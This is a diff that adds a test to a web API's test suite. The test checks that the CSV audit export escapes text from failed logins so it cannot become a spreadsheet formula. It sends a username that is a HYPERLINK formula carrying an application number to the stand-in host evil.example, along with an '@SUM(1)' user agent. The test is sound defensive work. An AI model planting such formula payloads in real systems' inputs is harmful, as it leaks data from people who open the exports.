@@ -342,3 +342,27 @@ async def test_holiday_calendar_changes_are_recorded_for_every_county(
         assert changes[-2]["target_id"] == "2031" and changes[-2]["region_code"] is None
     assert await audit_of(api, "audit_sup_xingang", action="calendar.replace") == []
     assert datetime.fromisoformat(changes[-1]["at"]) > datetime.now(UTC) - timedelta(minutes=5)
+
+
+async def test_a_formula_sent_as_username_and_user_agent_is_neutralised_in_the_csv_export(
+    api: httpx.AsyncClient, application_number: str
+) -> None:
+    """Issue 16: text from an unauthenticated login attempt must not become a formula in Excel."""
+    username = f'=HYPERLINK("http://evil.example/{application_number}","点此查看")'
+    agent = "@SUM(1)"
+    tried = await api.post(
+        "/api/v1/auth/token", data={"username": username, "password": "x"}, headers={"User-Agent": agent}
+    )
+    assert tried.status_code == 401
+    supervisor = await login(api, "supervisor_haizhu")
+    exported = await api.get("/api/v1/audit.csv", params={"actor": username}, headers=supervisor)
+    assert exported.status_code == 200, exported.text
+    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
+    header, entries = rows[0], rows[1:]
+    assert len(entries) == 1
+    entry = dict(zip(header, entries[0], strict=True))
+    assert entry["操作"] == "登录失败"
+    assert entry["操作人"] == "'" + username
+    assert entry["客户端"] == "'" + agent
+    # No cell of the export may start a formula.
+    assert not [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
